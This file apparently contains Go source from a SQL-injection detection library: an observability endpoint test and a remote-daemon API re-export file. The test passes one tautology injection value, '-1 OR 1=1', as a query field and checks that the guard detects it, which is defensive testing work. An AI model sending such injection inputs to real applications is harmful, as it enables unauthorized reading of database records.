// TestGuardObservabilityEndpoints is the end-to-end check of the embedded
// observability server: live /metrics with counters and stage histograms,
// /healthz, /debug/pprof/ and /traces backed by real Guard activity.
func TestGuardObservabilityEndpoints(t *testing.T) {
	g := newGuard(t, joza.WithObservability(joza.ObservabilityConfig{
		Addr: "127.0.0.1:0",
	}))
	defer g.Close()
	base := "http://" + g.ObservabilityAddr()
	g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: "5"}})
	g.Check("SELECT * FROM records WHERE ID=-1 OR 1=1 LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: "-1 OR 1=1"}})

	get := func(path string) (int, string) {
		t.Helper()
		resp, err := http.Get(base + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, string(body)
	}

	code, body := get("/metrics")
	if code != http.StatusOK {
		t.Fatalf("/metrics status %d", code)
	}
	for _, want := range []string{
		"joza_checks_total 2",
		"joza_attacks_total 1",
		"# TYPE joza_stage_duration_seconds histogram",
		`joza_stage_duration_seconds_bucket{stage="pti_cover"`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("/metrics missing %q\n%s", want, body)
		}
	}

	if code, body := get("/healthz"); code != http.StatusOK || body != "ok\n" {
		t.Fatalf("/healthz = %d %q", code, body)
	}
	if code, body := get("/debug/pprof/"); code != http.StatusOK || !strings.Contains(body, "goroutine") {
		t.Fatalf("/debug/pprof/ = %d", code)
	}

	code, body = get("/traces")
	if code != http.StatusOK {
		t.Fatalf("/traces status %d", code)
	}
	var dump joza.TraceDump
	if err := json.Unmarshal([]byte(body), &dump); err != nil {
		t.Fatalf("/traces not JSON: %v", err)
	}
	if len(dump.Recent) != 2 || len(dump.Notable) != 1 {
		t.Fatalf("/traces = %d recent, %d notable; want 2/1", len(dump.Recent), len(dump.Notable))
	}
}
