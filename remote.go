package joza

// Remote-deployment surface: the PTI daemon transports live in
// internal/daemon, so applications outside this module reach them through
// these re-exports. The deployment mirrors Figure 5 of the paper: a
// jozad process holds the fragment set and serves PTI analysis; the
// application runs NTI in process over the daemon's token stream and
// blocks a query iff either analyzer flags it.

import (
	"io"

	"joza/internal/core"
	"joza/internal/daemon"
	"joza/internal/nti"
	"joza/internal/trace"
)

type (
	// DaemonTransport is the application's view of the PTI analysis,
	// independent of deployment (single connection, pool, or in-process).
	DaemonTransport = daemon.Transport
	// DaemonClient is the Remote transport over a single connection.
	DaemonClient = daemon.Client
	// DaemonPool is the production Remote transport: a fixed-size
	// connection pool with per-request deadlines and jittered-backoff
	// reconnection.
	DaemonPool = daemon.Pool
	// DaemonPoolConfig tunes a DaemonPool (size, timeout, backoff).
	DaemonPoolConfig = daemon.PoolConfig
	// DegradeMode selects fail-open/fail-closed behaviour when the
	// daemon is unreachable.
	DegradeMode = daemon.DegradeMode
	// RemoteGuard is the application-side hybrid over a transport: PTI
	// via the daemon, NTI in process, one verdict.
	RemoteGuard = daemon.HybridClient
	// RemoteGuardOption configures a RemoteGuard.
	RemoteGuardOption = daemon.HybridOption
	// AnalysisReply is the daemon's answer for one query.
	AnalysisReply = daemon.AnalysisReply
	// BatchResult is one query's outcome inside an AnalyzeBatch call:
	// either a reply or a per-item error, while siblings stand alone.
	BatchResult = daemon.BatchResult
	// DaemonShardedPool consistent-hash-routes checks across a fleet of
	// jozad daemons, with a per-shard breaker so one dead shard degrades
	// only its own keyspace.
	DaemonShardedPool = daemon.ShardedPool
	// DaemonShardOption configures a DaemonShardedPool (names, routing
	// key, ring replicas).
	DaemonShardOption = daemon.ShardedPoolOption
	// TraceConfig tunes decision tracing (sample rate, ring size, slow
	// threshold) for a RemoteGuard; the in-process Guard configures the
	// same knobs through ObservabilityConfig.
	TraceConfig = trace.Config
	// SkewPolicy selects how a DaemonShardedPool treats verdicts served
	// by a shard whose snapshot version lags the fleet (rollout windows).
	SkewPolicy = daemon.SkewPolicy
	// RolloutReport describes a fleet-wide two-phase snapshot rollout:
	// the converged version plus every shard's terminal state.
	RolloutReport = daemon.RolloutReport
	// ShardRollout is one shard's outcome within a RolloutReport.
	ShardRollout = daemon.ShardRollout
)

// Skew policies for mixed-version rollout windows, re-exported.
const (
	// SkewWarn serves stale verdicts but counts and (optionally) traces
	// them — availability over coherence (default).
	SkewWarn = daemon.SkewWarn
	// SkewRefuseMixed refuses verdicts from stale shards per check (per
	// item in batches) with ErrVersionSkew on the healthy stream.
	SkewRefuseMixed = daemon.SkewRefuseMixed
)

// ErrVersionSkew wraps refusals issued under SkewRefuseMixed.
var ErrVersionSkew = daemon.ErrVersionSkew

// Degradation policies for daemon outages, re-exported. Fail-open keeps
// NTI active — the hybrid's other half still screens every input.
const (
	// DegradeError propagates transport errors to the caller (default).
	DegradeError = daemon.DegradeError
	// DegradeFailClosed treats daemon outage as an attack.
	DegradeFailClosed = daemon.DegradeFailClosed
	// DegradeFailOpen serves NTI-only verdicts during the outage.
	DegradeFailOpen = daemon.DegradeFailOpen
)

// DialDaemon connects one client to a PTI daemon at a TCP address (the
// paper's single-pipe mode; use DialDaemonPool for concurrent traffic).
func DialDaemon(addr string) (*DaemonClient, error) { return daemon.Dial(addr) }

// DialDaemonPool returns a connection pool to a PTI daemon at a TCP
// address. Dialing is lazy: the pool can be built before the daemon is
// up, and a daemon restart heals on the next request.
func DialDaemonPool(addr string, cfg DaemonPoolConfig) *DaemonPool {
	return daemon.DialPool(addr, cfg)
}

// DialDaemonShardedPool opens one connection pool per fleet address and
// consistent-hash-routes checks across them. Checks route by query text
// by default; fragment-sliced fleets (jozad -shard i/n) must route by
// the same key the fragment set was sliced with — see WithDaemonShardKey.
func DialDaemonShardedPool(addrs []string, cfg DaemonPoolConfig, opts ...DaemonShardOption) (*DaemonShardedPool, error) {
	return daemon.DialShardedPool(addrs, cfg, opts...)
}

// WithDaemonShardKey sets how a DaemonShardedPool derives the routing key
// from a query (default: the query text itself). A fleet whose shards
// hold fragment-set slices must route with the same key function the set
// was sliced by, or checks land on shards missing their fragments.
func WithDaemonShardKey(fn func(query string) string) DaemonShardOption {
	return daemon.WithShardKey(fn)
}

// WithDaemonShardNames labels the shards of a DaemonShardedPool in stats
// and error messages (default: the dialed addresses).
func WithDaemonShardNames(names []string) DaemonShardOption {
	return daemon.WithShardNames(names)
}

// WithDaemonSkewPolicy sets how the fleet client treats verdicts from
// version-skewed shards (default SkewWarn). Coordinate fleet upgrades
// with DaemonShardedPool.Rollout to keep the skew window to the width of
// one commit round.
func WithDaemonSkewPolicy(p SkewPolicy) DaemonShardOption {
	return daemon.WithSkewPolicy(p)
}

// NewRemoteGuard builds the application-side hybrid over a daemon
// transport with the default NTI analyzer and terminate policy; options
// adjust the degradation mode, policy, metrics collector and audit log.
func NewRemoteGuard(transport DaemonTransport, opts ...RemoteGuardOption) *RemoteGuard {
	return daemon.NewHybridClient(transport, nti.MustNew(), core.PolicyTerminate, opts...)
}

// WithRemoteDegradeMode sets what a RemoteGuard does when the daemon is
// unreachable (default DegradeError).
func WithRemoteDegradeMode(m DegradeMode) RemoteGuardOption {
	return daemon.WithDegradeMode(m)
}

// WithRemoteAuditLog makes the RemoteGuard write one AuditRecord JSON
// line per blocked query to w, exactly as the in-process Guard does.
func WithRemoteAuditLog(w io.Writer) RemoteGuardOption {
	return daemon.WithAuditLog(w)
}

// WithRemotePolicy sets the recovery policy used by RemoteGuard.Authorize.
func WithRemotePolicy(p Policy) RemoteGuardOption {
	return daemon.WithPolicy(p)
}

// WithoutRemoteNTI disables the in-process NTI component (PTI-only
// remote deployments).
func WithoutRemoteNTI() RemoteGuardOption {
	return daemon.WithoutNTI()
}

// WithRemoteTracing samples RemoteGuard checks into decision traces,
// readable via RemoteGuard.Traces. Daemon-side trace summaries riding on
// analyze replies are merged in, so one trace spans both processes.
func WithRemoteTracing(cfg TraceConfig) RemoteGuardOption {
	return daemon.WithTracing(cfg)
}

// WithRemoteStrictProfiles escalates a daemon profile verdict of
// "site-unknown" (a call site with no training profile) to an attack.
// Only meaningful for checks issued with a call site (CheckContextAt)
// against a daemon serving profiles (jozad -profiles).
func WithRemoteStrictProfiles() RemoteGuardOption {
	return daemon.WithStrictProfiles()
}
